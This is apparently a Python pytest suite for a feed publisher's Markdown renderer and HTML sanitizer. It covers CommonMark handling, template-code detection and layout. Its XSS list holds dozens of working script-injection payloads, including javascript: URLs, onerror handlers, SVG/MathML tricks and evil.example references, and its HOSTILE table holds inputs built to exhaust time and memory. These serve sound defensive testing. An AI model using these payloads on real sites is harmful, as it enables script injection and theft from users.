"""Bodies: Markdown (C1), made safe (C1-C3), template code (C5), hostile input, layout (C7)."""

from __future__ import annotations

from collections.abc import Sequence
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings, strategies as st

from feedpub.core import body as bodies, html as sanitizer, markup, text
from feedpub.core.compose import linked, unlinked_html
from feedpub.core.model import Image, Item, Person, Related

pytestmark = pytest.mark.timeout(60)


def body_html(source: str, base: str, is_html: bool = False) -> str:
    """Return a body as an entry has it."""
    return sanitizer.safe(bodies.read(source, is_html=is_html).html or "", base)


def renderable(source: str, is_html: bool = False) -> bool:
    return bodies.read(source, is_html=is_html).html is not None


BASE = "https://example.org/blog/post"
URLS = {"href", "src", "cite", "poster"}
VOID = {"br", "hr", "img", "wbr", "source"}
NEVER = {
    *("script", "style", "iframe", "form", "input", "button", "object", "embed", "applet"),
    *("svg", "math", "meta", "base", "link", "template", "frame", "frameset", "textarea", "title"),
    *("html", "head", "body", "noscript", "select", "marquee", "portal", "foreignobject", "area"),
}


class Reader(HTMLParser):
    """Reads HTML back with the standard library: tags, attributes, text; fails on bad nesting."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.open: list[str] = []
        self.feed(source)
        self.close()
        assert self.open == [], "an element is left open"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:  # noqa: ARG002 - the shape of the base
        pytest.fail("a comment")

    def handle_decl(self, decl: str) -> None:  # noqa: ARG002 - the shape of the base
        pytest.fail("a declaration")

    def handle_pi(self, data: str) -> None:  # noqa: ARG002 - the shape of the base
        pytest.fail("a processing instruction")

    @property
    def text(self) -> str:
        return "".join(self.texts)


def assert_safe(source: str) -> Reader:
    """C1, C2, C3: read `source` back and check every tag, attribute and URL."""
    read = Reader(source)
    for tag, attributes in read.tags:
        assert tag not in NEVER
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in {"style", "srcset", "id", "name", "formaction", "action", "data"}
            if name in URLS:
                assert value.isascii()
                assert value.lower().startswith(("http://", "https://", "mailto:"))
        assert tag not in {"img", "source"} or attributes.get("src")
    assert text.clean(source) == source
    return read


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\t>",
    "<<script>alert(1);//<</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<img src="x`" `onerror=alert(1)>',
    "<IMG SRC=x OnErRoR\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="/ok.png" srcset="javascript:alert(1) 1x, //evil.example/a.png 2x">',
    '<img src="/ok.png" style="background:url(javascript:alert(1))">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript&colon;alert(1)">x</a>',
    "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115cript:alert(1)>x</a>",
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="javascript\u200b:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:file:///etc/passwd">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://example.org/1">x</a>',
    "<svg onload=alert(1)>",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></table></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=1>'>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="width:expression(alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<iframe src="https://www.youtube.com/embed/x"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<video poster="javascript:alert(1)" onplay=alert(1)><source onerror=alert(1)></video>',
    '<audio src="data:audio/mp3;base64,AAAA" controls></audio>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "<details open ontoggle=alert(1)>x</details>",
    '<p id="location" name="cookie" onclick=alert(1)>x</p>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "<textarea></textarea><script>alert(1)</script></textarea>",
    '<a href="x" title=\'"><script>alert(1)</script>\'>x</a>',
    '<area href="javascript:alert(1)"><map name=x></map>',
    '<table background="javascript:alert(1)"><td background="//evil.example/x">x</table>',
    "]]><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://e.org "\\" onclick=alert(1) x=\\"")',
    '![x" onerror="alert(1)](x.png)',
    "<javascript:alert(1)>",
    "![x](data:image/png;base64,AAAA)",
    '```x"><script>alert(1)</script>\ncode\n```',
]


@pytest.mark.parametrize("is_html", [False, True], ids=["markdown", "html"])
@pytest.mark.parametrize("vector", XSS)
def test_c1_nothing_active_gets_out(vector: str, is_html: bool) -> None:
    assert_safe(body_html(vector, BASE, is_html))
    read = assert_safe(body_html(f"before\n\n{vector}\n\n[after](/x)", BASE, is_html))
    assert read.text.startswith("before")


def test_c1_what_is_harmless_stays() -> None:
    body = (
        '<p dir="rtl" lang="ar" title="t">x <b>b</b> <em>e</em> <code>c</code></p>'
        '<table><tbody><tr><td align="right" colspan="2">1</td></tr></tbody></table>'
        '<ol start="3"><li>l</li></ol><blockquote cite="https://e.org/c">q</blockquote>'
        '<video src="https://e.org/v.mp4" poster="https://e.org/p.png" controls=""></video>'
        '<p><img src="https://e.org/i.png" alt="a &lt; b" width="3" height="4"></p>'
    )
    assert Reader(body_html(body, BASE, True)).tags == Reader(body).tags


def test_c1_markdown_is_commonmark_with_tables_and_strikethrough() -> None:
    body = "# A *b*\n\n|a|b|\n|:-|-:|\n|1|~~2~~|\n\n```python\nx < 1\n```\n\n- one\n"
    found = body_html(body, BASE)
    assert "<h1>A <em>b</em></h1>" in found
    assert '<th align="left">a</th><th align="right">b</th>' in found
    assert '<td align="right"><s>2</s></td>' in found
    assert '<pre><code class="language-python">x &lt; 1\n</code></pre>' in found
    assert "<ul>\n<li>one</li>\n</ul>" in found


COMMONMARK = {
    "a\nb\\\nc  \nd": "<p>a\nb<br>\nc<br>\nd</p>",
    "Setext\n===\n\nLower\n---": "<h1>Setext</h1>\n<h2>Lower</h2>",
    "#hash\n####### seven": "<p>#hash\n####### seven</p>",
    "***\n- - -": "<hr>\n<hr>",
    "> a\nb\n>\n> > c": "<blockquote>\n<p>a\nb</p>\n<blockquote>\n<p>c</p>\n</blockquote>\n</blockquote>",
    "- a\n- b\n\n  c": "<ul>\n<li>\n<p>a</p>\n</li>\n<li>\n<p>b</p>\n<p>c</p>\n</li>\n</ul>",
    "3) a\n4) b\n   - c": '<ol start="3">\n<li>a</li>\n<li>b\n<ul>\n<li>c</li>\n</ul>\n</li>\n</ol>',
    "- [ ] a": "<ul>\n<li>[ ] a</li>\n</ul>",
    "    a < b\n\n\tc": "<pre><code>a &lt; b\n\nc\n</code></pre>",
    "~~~ py x\n```\n~~~": '<pre><code class="language-py">```\n</code></pre>',
    "`` a`b `` `c\\`": "<p><code>a`b</code> <code>c\\</code></p>",
    "*a* __b__ ***c*** snake_case 2 * 3": (
        "<p><em>a</em> <strong>b</strong> <em><strong>c</strong></em> snake_case 2 * 3</p>"
    ),
    r"\*a\* &amp; &copy; &bogus; AT&T <3": "<p>*a* &amp; © &amp;bogus; AT&amp;T &lt;3</p>",
    "[a](</b c> 'd') [e] [f][E]\n\n[e]: /g": (
        '<p><a href="https://example.org/b%20c" title="d">a</a>'
        ' <a href="https://example.org/g">e</a> <a href="https://example.org/g">f</a></p>'
    ),
    "<https://e.org/?a&b> https://e.org": (
        '<p><a href="https://e.org/?a&amp;b">https://e.org/?a&amp;b</a> https://e.org</p>'
    ),
    "![a *b*](/c.png)": '<p><img src="https://example.org/c.png" alt="a b"></p>',
    "<div>\n*a*\n\n*b*\n</div>": "<div>\n*a*\n<p><em>b</em></p>\n</div>",
    "a[^1]\n\n[^1]: b": '<p>a<a href="https://example.org/blog/b">^1</a></p>',
    "## if (a) { return }": "<h2>if (a) { return }</h2>",
    "~a~ ~~b~~ ~5 to ~6 x~y~z ~~~d~~~": "<p>~a~ <s>b</s> ~5 to ~6 x~y~z ~~~d~~~</p>",
    "~a ~~b~ c~~ `~d~`": "<p>~a <s>b~ c</s> <code>~d~</code></p>",
    "<del>a</del>": "<p><del>a</del></p>",
    "a | b\n-|:-:\n`c|d` | ~e~": (
        '<table><thead><tr><th>a</th><th align="center">b</th></tr></thead><tbody>\n'
        '<tr><td>`c</td><td align="center">d`</td></tr>\n</tbody></table>'
    ),
    '<td style="text-align: left">a</td>': "a",
}


@pytest.mark.parametrize("body", COMMONMARK)
def test_c1_markdown_is_read_as_commonmark_reads_it(body: str) -> None:
    assert body_html(body, BASE) == COMMONMARK[body]


MARKS = {
    '[x](/y){:target="_blank" .z}': '<p><a href="https://example.org/y">x</a></p>',
    "## Title {#id}": "<h2>Title </h2>",
    "a\n{: .note}": "<p>a\n</p>",
    "a\n{: .note}\nb": "<p>a\n\nb</p>",
    "- a\n{: .x}\n- b": "<ul>\n<li>a\n</li>\n<li>b</li>\n</ul>",
    "**a.**{: .x}b ![c {#d}](/i.png)": (
        '<p><strong>a.</strong>b <img src="https://example.org/i.png" alt="c "></p>'
    ),
    "a {/* truncate */}b <!-- more -->": "<p>a b </p>",
    "é {/* *se*cret `x` [y](z) */}ü": "<p>é ü</p>",
    "{/* ` */} {: .x} ` {: .y}": "<p>  ` </p>",
    ":::note\n\nx\n\n:::": "<p>x</p>",
    "a\n:::note\nb\n:::\nc": "<p>a</p>\n<p>b</p>\n<p>c</p>",
    ":::tip[Be *kind*]\nx\n:::": "<p><strong>Be <em>kind</em></strong></p>\n<p>x</p>",
    "x\n:::info A {#t}title\ny": "<p>x</p>\n<p><strong>A title</strong></p>\n<p>y</p>",
    ':::note{title="x"} y\nz': "<p>z</p>",
    "> a\n> :::note T\n> b\n>:::\n> c": (
        "<blockquote>\n<p>a</p>\n<p><strong>T</strong></p>\n<p>b</p>\n<p>c</p>\n</blockquote>"
    ),
    "1. a\n\n   :::tip\n   b\n   :::\n\n2. c": (
        "<ol>\n<li>\n<p>a</p>\n<p>b</p>\n</li>\n<li>\n<p>c</p>\n</li>\n</ol>"
    ),
    "`{:x}` {not} :: ::: {:": "<p><code>{:x}</code> {not} :: ::: {:</p>",
    "```\n:::note\n{: .x}\n```": "<pre><code>:::note\n{: .x}\n</code></pre>",
    "|a|b|\n|-|-|\n|x {: .x|y}|\n|{: .y}z|:::|": (
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n"
        "<tr><td>x {: .x</td><td>y}</td></tr>\n<tr><td>z</td><td>:::</td></tr>\n</tbody></table>"
    ),
    r"\{: .x} \*{: .x} \\{: .x}": r"<p>{: .x} * \</p>",
    "<https://e.org/{:x}> [a {:x} b](/c)": (
        '<p><a href="https://e.org/%7B:x%7D">https://e.org/{:x}</a>'
        ' <a href="https://example.org/c">a  b</a></p>'
    ),
    '[a](/b "{: .c}")': '<p><a href="https://example.org/b" title="{: .c}">a</a></p>',
}


@pytest.mark.parametrize("body", MARKS)
def test_c1_marks_for_the_generator_are_not_shown(body: str) -> None:
    assert body_html(body, BASE) == MARKS[body]


marked = st.lists(
    st.sampled_from(
        ["{: .x}", "{#y}", "{/* z */}", ":::note", ":::", "~a~", "~~b~~", "é", "a", " ", "{", "|"]
    ),
    max_size=9,
).map("".join)
PLACES = {
    "fence": lambda code: f"```py\n{code}\n```",
    "fence of tildes in a list": lambda code: f"- ~~~~\n  {code}\n  ~~~~",
    "fence in a quote": lambda code: f"> ```\n> {code}\n> ```",
    "indented": lambda code: f"    {code}",
    "span": lambda code: f"a ``{code} ` `` b",
}


@pytest.mark.parametrize("place", PLACES)
@settings(max_examples=80, deadline=None)
@given(marked, marked, marked)
def test_c5_code_is_never_touched(place: str, before: str, code: str, after: str) -> None:
    code = f"x{code}x"
    before, after = before.lstrip(), after.lstrip()  # else they may be code, too
    body = f"{before} {{: .x}}\n\n{PLACES[place](code)}\n\n{after} {{: .x}}"
    read = assert_safe(body_html(body, BASE))
    assert code in read.text
    assert "{: .x}" not in read.text.replace(code, "")


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("no {{ code }}", []),
        ("é `a` ü ``b`c`` 字\n\n    d\n    e\n\nf", ["`a`", "``b`c``", "d\n    e\n"]),
        ("🤖\n```py\né\n```\n`x`\n", ["```py\né\n```", "`x`"]),
        ("> ~~~\n> a\n> ~~~\n\n- ```\n  b\n  ```", ["~~~\n> a\n> ~~~", "```\n  b\n  ```"]),
        ("1. a\n\n    b\n", []),
        ("\\`a\\` and ` alone\n\n` too", []),
        ("|`a`|\n|-|\n|`b`|", ["`a`", "`b`"]),
    ],
)
def test_c5_code_is_where_the_parser_finds_it(source: str, code: list[str]) -> None:
    assert [source[start:end] for start, end in markup.code_spans(source)] == code


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text("aé字 .,;?\"'()-=1", max_size=20).map("W".__add__), max_size=5))
def test_c4_text_without_marks_is_all_there(paragraphs: list[str]) -> None:
    read = assert_safe(body_html("\n\n".join(paragraphs), BASE))
    assert read.text.split() == " ".join(paragraphs).split()
    assert [tag for tag, _ in read.tags] == ["p"] * len(paragraphs)


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("/y", "https://example.org/y"),
        ("y", "https://example.org/blog/y"),
        ("./y", "https://example.org/blog/y"),
        ("../y", "https://example.org/y"),
        ("?q=1", "https://example.org/blog/post?q=1"),
        ("#part", "https://example.org/blog/post#part"),
        ("//cdn.example/y", "https://cdn.example/y"),
        ("https://e.org/a?b=1&c=%253A", "https://e.org/a?b=1&c=%253A"),
        ("http://e.org/ü", "http://e.org/%C3%BC"),
        ("mailto:a@e.org", "mailto:a@e.org"),
        ("HTTPS://e.org/a%20b", "HTTPS://e.org/a%20b"),
        ("tel:+123", ""),
        ("ftp://e.org/", ""),
        ("javascript:alert(1)", ""),
        ("http://", ""),
        ("https://e@][", ""),
    ],
)
def test_c2_links_are_absolute_ascii(written: str, expected: str) -> None:
    for body, is_html in ((f"[x](<{written}>)", False), (f'<a href="{written}">x</a>', True)):
        read = assert_safe(body_html(body, BASE, is_html))
        href = dict(read.tags)["a"].get("href", "")
        assert href == expected
        assert read.text == "x"


def test_c2_pictures_are_absolute_or_gone() -> None:
    body = (
        '![a](/i.png) ![b](data:image/png;base64,AA) <img alt="c > d"> <img src="mailto:x@e.org">'
    )
    assert body_html(body, BASE).split() == [
        "<p><img",
        'src="https://example.org/i.png"',
        'alt="a">',
        "</p>",
    ]


def test_c2_without_a_base_relative_addresses_are_dropped() -> None:
    assert body_html("[x](/y) ![i](i.png)", "").strip() == "<p><a>x</a> </p>"


@pytest.mark.parametrize("is_html", [False, True], ids=["markdown", "html"])
def test_c3_references_to_illegal_characters_do_not_come_back(is_html: bool) -> None:
    found = body_html("a\x00\x0b\ud800&#11;&#0;&#xd800;&#xfffe;&#x202e;b", BASE, is_html)
    assert "&#" not in found
    assert_safe(found)


markdownish = st.text(
    st.sampled_from(list("[]()<>!*_`~#-=+|\\\n \t&;:\"'/{}%ab1.\x00\x0b\ud800\u202eé🤖")),
    max_size=60,
) | st.lists(st.sampled_from(XSS), max_size=4).map("\n".join)


@settings(max_examples=300)
@given(markdownish | st.text(st.characters(exclude_categories=())), st.booleans())
def test_c1_no_body_raises_or_gets_out_unsafe(body: str, is_html: bool) -> None:
    assert_safe(body_html(body, BASE, is_html))
    has_template_code(body)


@settings(max_examples=100)
@given(markdownish)
def test_c1_what_is_safe_is_left_alone(body: str) -> None:
    once = body_html(body, BASE)
    assert body_html(once, BASE, True) == once


@pytest.mark.parametrize(
    "body",
    [
        "{% include x.html %}",
        "a {{ site.baseurl }} b",
        "{%- if x -%}\ny\n{%- endif -%}",
        "{{< youtube w7Ft2ymGmfc >}}",
        "{{% notice tip %}}\nx\n{{% /notice %}}",
        "![x]({{ '/a.png' | relative_url }})",
        "{% raw %}`{{ x }}`{% endraw %}",
        "import Tabs from '@theme/Tabs';\n\nx",
        'text\n\nimport "./x.css"',
        'import {a, b} from "c"\n',
        "export const x = 1\n",
        "export default function Page() {}",
        "export {a}",
        "<Tabs>\n<TabItem value='a'>x</TabItem>\n</Tabs>",
        "a <Chart data={x > 1} /> b",
        "<Foo.Bar/>",
        "```\nshown\n```\n\n{% run %}",
        "`code` {{ x }} `code`",
        "~~~\n```\n~~~\n{{ x }}",
        "```inline``` {{ x }}",
    ],
)
def test_c5_template_code_is_seen(body: str) -> None:
    assert has_template_code(body)


@pytest.mark.parametrize(
    "body",
    [
        "",
        "plain",
        "<!-- truncate -->\n\n:::note\nx\n:::\n",
        "{/* truncate */}",
        "a {b} { c } {{ d",
        "}} before {{",
        "100% {%",
        "```yaml\nrun: ${{ secrets.X }}\n```",
        "> ```\n> {{ x }}\n> ```",
        "- ```\n  {% x %}\n  ```",
        "~~~~\n~~~\n{{ x }}\n~~~~",
        "~~~ a`b\n{{ x }}\n~~~",
        "write `{{ x }}` or ``<Tabs>`</Tabs>``",
        "```jsx\nimport A from 'a'\n<Tabs></Tabs>\n```",
        "```\n{{ never closed }}",
        "import taxes from China rise",
        "import duties\nexport of goods",
        "The import from 'x'",
        "<BR/> <IMG SRC=x /> </P>",
        "List<String> and Map<K,V/>",
        "press <Enter> now, a < B />",
        "<https://E.org/> <a href='/B'/>",
    ],
)
def test_c5_other_text_is_no_template_code(body: str) -> None:
    assert not has_template_code(body)


FOUR_MIB = 1 << 22
HOSTILE = {
    "20,000 [": "[" * 20_000,
    "4 MiB [": "[" * FOUR_MIB,
    "4 MiB of links": "[a](" * (FOUR_MIB // 4),
    "20,000 div": "<div>" * 20_000,
    "20,000 div on lines": "<div>\n\n" * 20_000,
    "4 MiB div": "<div>" * (FOUR_MIB // 5),
    "quotes": ">" * 20_000,
    "lists": "- " * 20_000,
    "deep lists": "\n".join("  " * n + "- a" for n in range(600)),
    "emphasis": "*a_ " * 20_000,
    "backticks": " ".join("`" * n for n in range(600)),
    "references": "".join(f"[a{n}]: /x\n" for n in range(20_000)),
    "wide table": "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "|\n" * 10_000,
    "one long address": "[x]: https://e.org/" + "a" * 100_000 + "\n\n" + "[x] " * 9_900,
    "opened again": "<p>" + "".join(f"<b id={n}>" for n in range(2000)) + "<p>x" * 2000,
    "long tags": "<p>" + f"<b title='{'x' * 100_000}'>" * 30 + "<p>x</p>" * 300,
    "long tags of a plain look": "<p><b title='"
    + "x" * 9_000
    + "'><p>x</p>" * 9_000
    + "</b>" * 9_000,
    "li and dd": "<li><dd>" * 9_000,
    "formatting": "".join(f"<b id={n}>" for n in range(5000)) + "<p>x" * 5000,
    "formatting in Markdown": "".join(f"<b id={n}>" for n in range(900)) + "x\n\n" * 9000,
    "fostered": "<table><tr>" + "".join(f"<b id={n}><td></b></td>" for n in range(9000)),
    "hidden end tags": "".join(f"<b id={n}><!--</b>-->" for n in range(5000)) + "<p>x" * 9000,
    "hidden start tags": "<script><!--</script>" + "<b id=1><p>" * 9000 + "-->",
    "odd space": "".join(f"<b id={n}><i\xa0></b></i>" for n in range(9000)),
    "one tag of attributes": "<a " + " ".join(f"a{n}=1" for n in range(300_000)) + ">",
    "quoted attributes": "<a " + " ".join(f'a{n}=">"' for n in range(200_000)) + ">",
    "open tag": "<a" + " " * FOUR_MIB,
    "open comments": "<!--" * (FOUR_MIB // 4),
    "open comment": "<!-- " + "b" * FOUR_MIB,
    "words": "a " * (FOUR_MIB // 2),
    "terminators": "$:" * (1 << 17),
    "bidi": "\u202e" * (FOUR_MIB // 3),
    "spaces after import": "import" + " " * FOUR_MIB,
    "open braces": "{{" * (FOUR_MIB // 2),
    "marks": ("{:" + " " * 100) * 4000,
    "one long component": "<" + "Aa" * (FOUR_MIB // 2),
    "components": "<Aa " * (FOUR_MIB // 4),
    "fences": "```a\n" * (FOUR_MIB // 5),
    "colons": ":::a\n" * (FOUR_MIB // 5),
}


@pytest.mark.parametrize("is_html", [False, True], ids=["markdown", "html"])
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_body_is_rendered_or_given_up_on(name: str, is_html: bool) -> None:
    """Without the guards several of these run for minutes or fill the memory: see the timeout."""
    body = HOSTILE[name]
    has_template_code(body)
    found = body_html(body, BASE, is_html)
    assert len(found) <= 3 * FOUR_MIB
    assert found == "" or renderable(body, is_html)
    if len(found) < 100_000:
        assert_safe(found)


@pytest.mark.parametrize(
    ("name", "is_html"),
    [
        ("20,000 div", False),
        ("20,000 div", True),
        ("quotes", False),
        ("4 MiB [", False),
        ("opened again", False),
        ("opened again", True),
        ("fostered", True),
        ("hidden end tags", True),
        ("hidden start tags", True),
        ("odd space", True),
        ("one tag of attributes", True),
        ("quoted attributes", True),
        ("long tags", True),
        ("long tags of a plain look", True),
        ("li and dd", True),
    ],
)
def test_what_is_given_up_on_can_be_told(name: str, is_html: bool) -> None:
    assert not renderable(HOSTILE[name], is_html)


def test_twenty_thousand_brackets_are_text() -> None:
    assert body_html("[" * 20_000, BASE) == f"<p>{'[' * 20_000}</p>"


def test_one_address_is_not_made_a_gigabyte() -> None:
    """140 KB that were once a gigabyte of HTML, which ended the process."""
    found = body_html(HOSTILE["one long address"], BASE)
    assert found.startswith("<p>")
    assert len(found) < 1 << 20


def test_much_that_is_plain_is_rendered() -> None:
    body = "## Title\n\nSome *text* with [a link](/x) and a lot more words to read on.\n\n" * 1200
    found = body_html(body, BASE)
    assert found.count('<a href="https://example.org/x">') == 1200
    assert renderable(f"<b>x</b> a < b <!DOCTYPE html> {body}")
    assert renderable("a" * markup.MOST_CHARACTERS)
    assert not renderable("a" * (markup.MOST_CHARACTERS + 1))


ITEM = Item(
    path="a.md",
    explicit="",
    original_key="",
    web_key="",
    title="T",
    excerpt="AT&T <3 C++",
    link=BASE,
)
MICROSOFT = Person("Mic & Soft", "https://microsoft.com/")
PICTURE = Image("https://e.org/i.png?a=1&b=%253A", 640, 480, alt='a "b" <c>')
RELATED = Related(
    place=0,
    key="https://o.org/r",
    url="https://o.org/r?a=1&b=2",
    title="Other <story> & more",
    published=1_699_471_380,
    provider=Person("O'Reilly"),
)


def content_html(item: Item, related: Sequence[Related], *, full: bool = True) -> str:
    return linked(unlinked_html(item, full=full), related)


def test_c7_the_whole_layout() -> None:
    item = ITEM._replace(images=(PICTURE,), provider=MICROSOFT)
    assert content_html(item, [RELATED]) == (
        '<div dir="auto">'
        '<p><img src="https://e.org/i.png?a=1&amp;b=%253A" alt="a &quot;b&quot; &lt;c&gt;"'
        ' width="640" height="480"></p>'
        "<p>AT&amp;T &lt;3 C++</p>"
        '<p><a href="https://microsoft.com/">Mic &amp; Soft</a></p>'
        "<h2>Related</h2>"
        '<ul><li><a href="https://o.org/r?a=1&amp;b=2">Other &lt;story&gt; &amp; more</a>'
        ' · O&#x27;Reilly · <time datetime="2023-11-08">2023-11-08</time></li></ul>'
        "</div>"
    )


def test_c7_what_an_item_lacks_leaves_no_trace() -> None:
    bare = RELATED._replace(published=None, provider=None)
    assert content_html(ITEM._replace(excerpt=""), []) == '<div dir="auto"></div>'
    assert content_html(ITEM._replace(provider=Person("Me")), []).endswith("<p>Me</p></div>")
    assert "</a></li></ul>" in content_html(ITEM, [bare])
    assert 'alt=""></p>' in content_html(ITEM._replace(images=(Image("https://e.org/i.png"),)), [])


def test_c7_a_link_of_the_first_instant_has_its_date() -> None:
    assert "1970-01-01" in content_html(ITEM, [RELATED._replace(published=0)])


def test_c7_the_body_takes_the_place_of_the_excerpt() -> None:
    item = ITEM._replace(body="Hello [x](y)")
    assert content_html(item, []) == (
        '<div dir="auto"><p>Hello <a href="https://example.org/blog/y">x</a></p></div>'
    )
    assert "AT&amp;T" in content_html(item, [], full=False)
    assert "Hello" not in content_html(item, [], full=False)
    assert content_html(ITEM._replace(body="a < *b*", body_html=True), []) == (
        '<div dir="auto">a &lt; *b*</div>'
    )


@pytest.mark.parametrize(
    "body",
    ["", " \n", "<!-- x -->", "<iframe src=/x></iframe>", "<div><iframe></iframe></div>", "&nbsp;",
     "<script>x</script>", "<div>" * 20_000],
)  # fmt: skip
def test_c7_a_body_that_shows_nothing_gives_way_to_the_excerpt(body: str) -> None:
    assert "<p>AT&amp;T &lt;3 C++</p>" in content_html(ITEM._replace(body=body), [])


def test_c7_a_picture_alone_is_a_body() -> None:
    assert "AT&amp;T" not in content_html(ITEM._replace(body="![x](i.png)"), [])


@pytest.mark.parametrize(
    ("source", "pictures"),
    [
        ("https://e.org/i.png?a=1&b=%253A", 1),
        ("http://E.org/i.png?a=1&b=%253A&utm_source=x", 1),  # the same by R1
        ("https://e.org/i.png?a=2", 2),
        ("https://e.org/other.png", 2),
    ],
)
def test_c7_the_lead_image_is_not_shown_twice(source: str, pictures: int) -> None:
    item = ITEM._replace(images=(PICTURE,), body=f"Text\n\n![x]({source})")
    assert content_html(item, []).count("<img ") == pictures
    assert content_html(item, [], full=False).count("<img ") == 1


def test_c7_a_link_to_the_picture_is_not_the_picture() -> None:
    item = ITEM._replace(images=(PICTURE,), body=f"[x]({PICTURE.url}) ![y](/z.png)")
    assert content_html(item, []).count("<img ") == 2


clean_text = (st.text() | st.text("&<>\"'; #x41amp\u202e\u2067", max_size=30)).map(text.plain)


@settings(max_examples=150)
@given(clean_text, clean_text, clean_text, clean_text, markdownish)
def test_c4_c7_every_text_is_escaped_once(
    excerpt: str, alt: str, provider: str, title: str, body: str
) -> None:
    item = ITEM._replace(
        excerpt=excerpt, images=(PICTURE._replace(alt=alt),), provider=Person(provider)
    )
    link = RELATED._replace(title=title, provider=None, published=None)
    read = assert_safe(content_html(item, [link]))
    assert read.text == f"{excerpt}{provider}Related{title}"
    assert read.tags[2][1]["alt"] == alt
    assert_safe(content_html(item._replace(body=body), [link]))


# What of template code is plain (C5)


def test_c5_what_raw_holds_is_shown_as_it_stands_and_is_no_template_code() -> None:
    body = "A\n\n{% raw %}\n`{{ x }}` {% include y %}\n{%- endraw -%}\nB"
    found = literal(body)
    assert found.shown == "A\n\n\n`{{ x }}` {% include y %}\n\nB"
    assert has_template_code(body)
    assert not has_template_code(found.judged)
    assert has_template_code(literal(body + "{{ z }}").judged)


def test_c5_highlight_is_a_block_of_code_and_raw_within_it_goes() -> None:
    body = "{% highlight ruby linenos %}\n{% raw %}{{ a }}{% endraw %}\n{% endhighlight %}\nB"
    assert literal(body).shown == "``````ruby\n{{ a }}\n``````\nB"
    assert not has_template_code(literal(body).judged)
    assert literal("{% highlight sh %}ls{% endhighlight %}").shown == "``````sh\nls\n``````\n"


def test_c5_the_style_of_jsx_goes() -> None:
    found = literal("<p style={{textAlign: 'center'}}>x</p> a={{b}}")
    assert found == ("<p>x</p> a={{b}}",) * 2


@pytest.mark.parametrize(
    "body",
    [
        "{% raw %} {{ x }}",
        "{{ x }} {% endraw %}",
        "{% highlight ruby %}x{% endraw %}",
        "{% raw %}{% endraw %}{% endhighlight %}",
        "{% rawhide %}x{% endraw %}",
    ],
)
def test_c5_marks_without_their_pair_stay_template_code(body: str) -> None:
    assert literal(body) == (body, body)
    assert has_template_code(body)
